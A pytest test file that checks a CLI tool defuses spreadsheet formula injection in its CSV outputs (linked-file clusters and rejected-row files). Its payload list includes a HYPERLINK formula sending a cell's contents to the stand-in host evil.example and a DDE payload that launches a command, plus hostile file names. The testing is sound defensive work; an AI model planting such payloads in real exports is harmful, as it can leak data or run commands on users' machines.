"""The CSV files users open (link-files output, rejected rows) never carry a live formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from tests.cli.dadkhah_process import run_cli

REPO = Path(__file__).resolve().parents[2]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=2+2",
]
NAMES = [
    "Ali Tabesh",
    "Reza Karimi",
    "Hassan Ahmadi",
    "Mehdi Jafari",
    "Akbar Moradi",
    "Kaveh Amini",
]


run = run_cli


def read_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def write_list(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["record_id", "full_name", "father_name", "city"])
        w.writerows(rows)
    return path


def assert_no_live_formula(cells: list[str]) -> None:
    live = [c for c in cells if c and c[0] in "=+-@\t\r"]
    assert live == [], f"cells a spreadsheet would evaluate: {live}"


@pytest.fixture(scope="module")
def link_files_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("inject")
    rows = [[p, n, "Hossein", "Tehran"] for p, n in zip(PAYLOADS, NAMES, strict=True)]
    # The list column holds the file's name: hostile names too.
    first = write_list(tmp / "=HYPERLINK(1).csv", rows)
    second = write_list(tmp / "@SUM(1).csv", rows)
    out = tmp / "clusters.csv"
    result = run("link-files", str(first), str(second), "--out", str(out))
    assert result.returncode == 0, result.stderr[-3000:]
    return out


@pytest.mark.parametrize("payload", PAYLOADS)
def test_link_files_output_defuses_formulas_in_list_and_record_id(
    link_files_out: Path, payload: str
) -> None:
    cells = read_cells(link_files_out)
    assert_no_live_formula(cells)
    assert "'=HYPERLINK(1)" in cells and "'@SUM(1)" in cells
    stripped = payload.lstrip("\t\r")  # the importer trims a record id's whitespace
    assert ("'" + stripped) in cells


@pytest.fixture(scope="module")
def rejected_csv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("rejected")
    case = tmp / "case"
    assert run("init", str(case)).returncode == 0
    # Each payload is a record id given twice, so the second row is rejected with its cells.
    rows = [[p, p, "Hossein", "Tehran"] for p in PAYLOADS for _ in range(2)]
    path = write_list(tmp / "hostile.csv", rows)
    result = run("--case", str(case), "import", str(path), "--source", "s", "--skip-invalid")
    assert result.returncode == 0, result.stderr[-3000:]
    out = tmp / "hostile.csv.rejected.csv"
    assert out.exists(), result.stdout
    return out


@pytest.mark.parametrize("payload", PAYLOADS)
def test_rejected_rows_file_defuses_formulas(rejected_csv: Path, payload: str) -> None:
    cells = read_cells(rejected_csv)
    assert_no_live_formula(cells)
    assert ("'" + payload) in cells or ("'" + payload.lstrip("\t\r")) in cells
